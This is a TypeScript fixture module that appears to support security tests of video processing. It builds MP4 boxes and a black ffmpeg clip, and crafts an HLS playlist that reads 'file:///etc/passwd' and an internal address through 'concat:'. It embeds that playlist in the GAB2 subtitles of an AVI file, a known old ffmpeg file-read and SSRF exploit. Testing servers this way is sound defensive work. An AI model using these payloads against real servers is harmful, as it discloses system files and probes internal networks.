import { execFile } from 'node:child_process'
import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'

/** The smallest possible black clip without sound. */
export async function blackClip(size: {
  width: number
  height: number
  fps: number
  seconds: number
  format?: 'mp4' | 'avi'
}): Promise<Buffer> {
  const { width, height, fps, seconds, format = 'mp4' } = size
  const folder = await mkdtemp(join(tmpdir(), 'siege-clip-'))
  const file = join(folder, `clip.${format}`)
  const source = `color=black:s=${width}x${height}:r=${fps}:d=${seconds}`
  const codec = format === 'mp4' ? ['libx264', '-preset', 'ultrafast', '-g', '9999'] : ['mpeg4']
  try {
    await promisify(execFile)('ffmpeg', [
      ...['-v', 'error', '-f', 'lavfi', '-i', source, '-pix_fmt', 'yuv420p'],
      ...['-c:v', ...codec, '-movflags', '+faststart', file],
    ])
    return await readFile(file)
  } finally {
    await rm(folder, { recursive: true, force: true })
  }
}

/** A box of an MP4 file (ISO/IEC 14496-12): its length, its name and its content. */
export function box(name: string, ...content: (Uint8Array | string)[]): Buffer {
  const data = Buffer.concat(content.map(part => Buffer.from(part)))
  const head = Buffer.alloc(8)
  head.writeUInt32BE(8 + data.length)
  head.write(name, 4, 'latin1')
  return Buffer.concat([head, data])
}

/** The first box of MP4 files. */
export const MP4_BEGIN = box('ftyp', 'isom', Buffer.alloc(4), 'isommp41')

/** Writes an integer into a box of a clip, at an offset in bytes after the box's name. */
export function patched(clip: Buffer, name: string, offset: number, value: number): Buffer {
  const copy = Buffer.from(clip)
  copy.writeUInt32BE(value, copy.indexOf(name, 0, 'latin1') + 4 + offset)
  return copy
}

/** An HLS playlist that references a file of the server and an internal address. */
export function playlist(inside: string): string {
  return `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\nconcat:${inside}|file:///etc/passwd\n#EXT-X-ENDLIST\n`
}

/** An AVI file whose subtitles (GAB2) are a playlist, which old versions of ffmpeg opened. */
export function aviWithPlaylist(inside: string): Buffer {
  const chunk = (name: string, data: Buffer) => {
    const head = Buffer.alloc(8)
    head.write(name, 'latin1')
    head.writeUInt32LE(data.length, 4)
    return Buffer.concat([head, data, Buffer.alloc(data.length % 2)])
  }
  const subtitles = Buffer.concat([
    Buffer.from('GAB2\0\x02\0', 'latin1'),
    Buffer.alloc(10),
    Buffer.from(playlist(inside)),
  ])
  const list = (name: string, ...chunks: Buffer[]) =>
    chunk('LIST', Buffer.concat([Buffer.from(name, 'latin1'), ...chunks]))
  const stream = list(
    'strl',
    chunk('strh', Buffer.from('txts'.padEnd(56, '\0'), 'latin1')),
    chunk('strf', Buffer.alloc(4)),
  )
  const body = Buffer.concat([
    Buffer.from('AVI ', 'latin1'),
    list('hdrl', chunk('avih', Buffer.alloc(56)), stream),
    list('movi', chunk('00tx', subtitles)),
  ])
  return chunk('RIFF', body)
}
